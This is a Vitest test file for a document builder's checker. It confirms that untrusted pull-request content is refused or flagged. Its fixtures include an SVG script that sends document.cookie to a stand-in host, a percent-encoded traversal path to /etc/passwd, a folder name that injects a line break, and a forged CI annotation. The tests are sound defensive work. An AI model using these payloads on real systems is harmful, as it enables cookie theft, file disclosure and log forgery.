import { cpSync, mkdirSync, mkdtempSync, readFileSync, renameSync, symlinkSync, writeFileSync } from "node:fs";
import os from "node:os";
import path from "node:path";
import { describe, expect, it } from "vitest";
import { check, formatLine } from "../../src/index.js";
import { tempProject } from "../helpers.js";

/**
 * Issue 28: content from a contributor's pull request stays inside its
 * bounds. Each case is refused (or warned about) at its line, by `check`
 * without printing.
 */

const SECTION = "content/mini/sections/10-common.md";
const HEAD = "---\nid: common\ntitle: Common section\norder: 10\n---\n";

async function findings(root: string, rule?: string): Promise<string[]> {
  const result = await check({ root, render: false });
  return result.diagnostics.filter((d) => !rule || d.ruleId === rule).map(formatLine);
}

/** A file outside every project, as a secret on the CI machine would be. */
function outsideFile(name: string, text: string): string {
  const dir = mkdtempSync(path.join(os.tmpdir(), "brief-outside-"));
  const file = path.join(dir, name);
  writeFileSync(file, text);
  return file;
}

describe("files outside the project", () => {
  it("a section that is a symlink to a file outside is refused, and its text is not read", async () => {
    const root = tempProject();
    const secret = outsideFile("secret.md", `${HEAD}The CI secret is hunter2.\n`);
    symlinkSync(secret, path.join(root, "content/mini/sections/40-leak.md"));
    const lines = await findings(root);
    expect(lines).toContain(
      "content/mini/sections/40-leak.md:0:0: error content/mini/sections/40-leak.md resolves outside the project (a symbolic link); it was not read file/outside-project",
    );
    expect(lines.join("\n")).not.toContain("hunter2");
  });

  it("an image symlinked outside is refused at the line that shows it", async () => {
    const root = tempProject({ [SECTION]: `${HEAD}Text.\n\n![Unit logo](images/logo.png)\n` });
    symlinkSync(outsideFile("logo.png", "\x89PNG\r\n\x1a\n"), path.join(root, "content/mini/images/logo.png"));
    expect(await findings(root, "file/outside-project")).toEqual([
      `${SECTION}:8:1: error content/mini/images/logo.png resolves outside the project (a symbolic link); it was not read file/outside-project`,
    ]);
  });

  it("a brief folder that is a symlink is refused", async () => {
    const root = tempProject();
    const elsewhere = mkdtempSync(path.join(os.tmpdir(), "brief-elsewhere-"));
    renameSync(path.join(root, "content/mini"), path.join(elsewhere, "mini"));
    symlinkSync(path.join(elsewhere, "mini"), path.join(root, "content/mini"));
    const lines = await findings(root, "file/outside-project");
    expect(lines).toEqual([
      'content:0:0: error brief folder "mini" is a symbolic link; a brief must be a real folder inside the project file/outside-project',
    ]);
  });

  it("percent-encoded dots are decoded before the image path check", async () => {
    const root = tempProject({ [SECTION]: `${HEAD}Text.\n\n![Passwords](%2e%2e/%2e%2e/%2e%2e/etc/passwd)\n` });
    mkdirSync(path.join(root, "content/mini/%2e%2e/%2e%2e/%2e%2e/etc"), { recursive: true });
    expect(await findings(root, "markdown/remote-image")).toEqual([
      `${SECTION}:8:1: error image "%2e%2e/%2e%2e/%2e%2e/etc/passwd" is not a file inside the brief markdown/remote-image`,
    ]);
  });
});

describe("SVG images", () => {
  it("an SVG with a script is refused at its line and not published", async () => {
    const root = tempProject({
      [SECTION]: `${HEAD}Text.\n\n![Unit logo](images/logo.svg)\n`,
      "content/mini/images/logo.svg": `<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("https://x.example/"+document.cookie)</script><rect width="1" height="1"/></svg>`,
    });
    const lines = await findings(root, "markdown/unsafe-svg");
    expect(lines).toEqual([
      `${SECTION}:8:1: error SVG image "images/logo.svg" is not published: it holds <script> markdown/unsafe-svg`,
    ]);
  });
});

describe("names and outputs", () => {
  it("a brief folder whose name is not an id is refused, quoted so it cannot split a line", async () => {
    const root = tempProject();
    renameSync(path.join(root, "content/mini"), path.join(root, "content/Bad Name\"<x>'\r\nfake"));
    const lines = await findings(root, "brief/invalid-id");
    expect(lines).toEqual([
      'content:0:0: error brief folder "Bad Name\\"<x>\'\\r\\nfake" is not an id (lower-case letters, digits and hyphens); it was not built brief/invalid-id',
    ]);
  });

  it("two editions that would write the same file are both refused, naming both briefs", async () => {
    const root = tempProject();
    const alpha = readFileSync(path.join(root, "templates/audiences/alpha.yaml"), "utf8");
    writeFileSync(path.join(root, "templates/audiences/policy-makers.yaml"), alpha);
    writeFileSync(path.join(root, "templates/audiences/makers.yaml"), alpha);
    for (const [id, extra] of [
      ["p", "policy-makers"],
      ["p-policy", "makers"],
    ] as const) {
      cpSync(path.join(root, "content/mini"), path.join(root, "content", id), { recursive: true });
      const file = path.join(root, "content", id, "brief.yaml");
      writeFileSync(
        file,
        readFileSync(file, "utf8").replace("audiences: [alpha, beta]", `audiences: [alpha, beta, ${extra}]`),
      );
    }
    expect(await findings(root, "edition/output-collision")).toEqual([
      'content/p-policy/brief.yaml:11:26: error editions of brief "p" with audience "policy-makers" and brief "p-policy" with audience "makers" would both write output/p-policy-makers.*; neither is built edition/output-collision',
      'content/p/brief.yaml:11:26: error editions of brief "p" with audience "policy-makers" and brief "p-policy" with audience "makers" would both write output/p-policy-makers.*; neither is built edition/output-collision',
    ]);
  });
});

describe("templates and text", () => {
  it("a partial block in a section is refused, so its helpers never run", async () => {
    const root = tempProject({
      [SECTION]: `${HEAD}Text.\n\n{{#> x}}{{log "::error file=a.md::Fake annotation"}}{{/x}}\n`,
    });
    const result = await check({ root, render: false });
    const lines = result.diagnostics.map(formatLine);
    expect(lines.filter((l) => l.includes("template/partial"))).toEqual([
      `${SECTION}:8:1: error partial block "x" is not allowed here template/partial`,
    ]);
    expect(lines.join("\n")).toContain('unknown helper "log"');
  });

  it("a direction override gets a warning at its line and column", async () => {
    const root = tempProject({ [SECTION]: `${HEAD}Text.\n\nThe vote was \u202Egnitov\u202C today.\n` });
    expect(await findings(root, "text/invisible-character")).toEqual([
      `${SECTION}:8:14: warning invisible character U+202E RIGHT-TO-LEFT OVERRIDE: the text may not read as it prints text/invisible-character`,
    ]);
  });

  it("a text fact longer than the limit is refused at the fact", async () => {
    const root = tempProject({
      "content/mini/facts.yaml": `long:\n  label: Long\n  value: "${"word ".repeat(500)}"\n  format: text\n  as_of: 2025-02-05\n  source: src-one\n`,
    });
    const lines = await findings(root);
    expect(lines.find((l) => l.includes("must be at most 2000"))).toMatch(/^content\/mini\/facts\.yaml:3:10: error/);
  });

  it("a data file over its size limit is refused at the file before it is parsed", async () => {
    const root = tempProject({ "content/mini/sources.yaml": `# ${"x".repeat(8_100_000)}\n` });
    expect(await findings(root, "file/too-large")).toEqual([
      "content/mini/sources.yaml:0:0: error content/mini/sources.yaml is 8,100,003 bytes; a yaml file may be at most 8,000,000 file/too-large",
    ]);
  });
});
